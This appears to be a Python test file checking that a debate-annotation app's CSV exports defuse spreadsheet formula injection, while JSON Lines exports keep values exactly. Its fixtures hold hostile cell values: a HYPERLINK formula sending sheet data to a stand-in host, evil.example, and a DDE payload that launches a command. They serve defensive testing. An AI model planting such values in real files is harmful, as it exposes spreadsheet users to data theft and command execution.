"""Exports a researcher opens elsewhere: nothing in them acts on the reader's machine.

A CSV export is opened in a spreadsheet, which runs any cell that starts with ``=``, ``+``,
``-``, ``@`` (or a tab or carriage return before them) as a formula: ``=HYPERLINK(...)`` in a
note would send the sheet's data away on a click. Such cells are written with a leading
apostrophe, which spreadsheets show as text; JSON Lines keeps every value exactly. File names
and headers of exports and map downloads carry no text a user chose unsanitised.
"""

import csv
import io
import json

import pytest

from annotations.models import Span
from annotations.services import SpanInput, span_create
from debate.models import Actor, Membership, Role
from debate.scheme import default_scheme
from tests.factories import DebateFactory, DocumentFactory, UserFactory, api_token

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2,"Details")'
TEXT = "+1 vote for scanning. -Encryption protects. @everyone agrees.\n"


@pytest.fixture
def formulas(db):
    scheme = default_scheme()
    scheme["stances"][0]["key"] = "=cmd|' /C calc'!A0"  # the classic DDE payload, as a label
    debate = DebateFactory(slug="alpha", scheme=scheme)
    annotator = UserFactory(username="@annotator")
    researcher = UserFactory(username="alpha-researcher")
    Membership.objects.create(debate=debate, user=annotator, role=Role.ANNOTATOR)
    Membership.objects.create(debate=debate, user=researcher, role=Role.RESEARCHER)
    actor = Actor.objects.create(debate=debate, name="-2+3")
    document = DocumentFactory(debate=debate, text=TEXT)
    for needle, note in (("+1 vote for scanning.", HYPERLINK), ("-Encryption", "\t=1+1")):
        start = TEXT.index(needle)
        span_create(
            document=document,
            annotator=annotator,
            by=annotator,
            data=SpanInput(
                start=start,
                end=start + len(needle),
                quote=needle,
                stance=scheme["stances"][0]["key"],
                role="claim",
                actor=actor.pk,
                note=note,
            ),
        )
    return researcher


def _export(user, format_name: str):
    from rest_framework.test import APIClient

    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {api_token(user)}")
    response = client.get(f"/api/v1/debates/alpha/export/spans/?format={format_name}")
    assert response.status_code == 200
    return response, b"".join(response.streaming_content).decode()


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(formulas):
    _response, body = _export(formulas, "csv")

    rows = list(csv.DictReader(io.StringIO(body)))
    picked = [
        {name: row[name] for name in ("layer", "annotator", "quote", "stance", "actor", "note")}
        for row in rows
    ]
    assert picked == [
        {
            "layer": "'@annotator",
            "annotator": "'@annotator",
            "quote": "'+1 vote for scanning.",
            "stance": "'=cmd|' /C calc'!A0",
            "actor": "'-2+3",
            "note": "'" + HYPERLINK,
        },
        {
            "layer": "'@annotator",
            "annotator": "'@annotator",
            "quote": "'-Encryption",
            "stance": "'=cmd|' /C calc'!A0",
            "actor": "'-2+3",
            "note": "'\t=1+1",
        },
    ]
    # Cells no spreadsheet would run are written as they are.
    assert [row["role"] for row in rows] == ["claim", "claim"]
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in rows
        for cell in row.values()
    )


def test_json_lines_keep_every_value_exactly(formulas):
    _response, body = _export(formulas, "jsonl")

    spans = [
        json.loads(line) for line in body.splitlines() if '"type":"span"' in line.replace(" ", "")
    ]
    assert [(span["quote"], span["note"]) for span in spans] == [
        ("+1 vote for scanning.", HYPERLINK),
        ("-Encryption", "\t=1+1"),
    ]


def test_export_file_names_and_headers_carry_nothing_unsanitised(formulas):
    response, _body = _export(formulas, "csv")

    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="alpha-spans-all-')
    assert disposition.endswith('.csv"')
    provenance = response.headers["X-Debatemap-Provenance"]
    assert provenance.isascii() and "\n" not in provenance and "\r" not in provenance
    assert json.loads(provenance)["debate"]["slug"] == "alpha"


@pytest.mark.parametrize(
    "note",
    [" =1+1", '\n=HYPERLINK("x")', "\uff1d1+1", "\u3000@SUM(A1)", "  \t-2+3", "\uff0b1"],
    ids=[
        "space",
        "newline",
        "fullwidth-equals",
        "ideographic-space",
        "spaces-tab",
        "fullwidth-plus",
    ],
)
def test_csv_cells_that_start_a_formula_after_blanks_or_in_full_width_are_text(formulas, note):
    span = Span.objects.filter(document__debate__slug="alpha").order_by("pk").first()
    Span.objects.filter(pk=span.pk).update(note=note)

    _response, body = _export(formulas, "csv")

    notes = [row["note"] for row in csv.DictReader(io.StringIO(body))]
    assert notes[0] == "'" + note
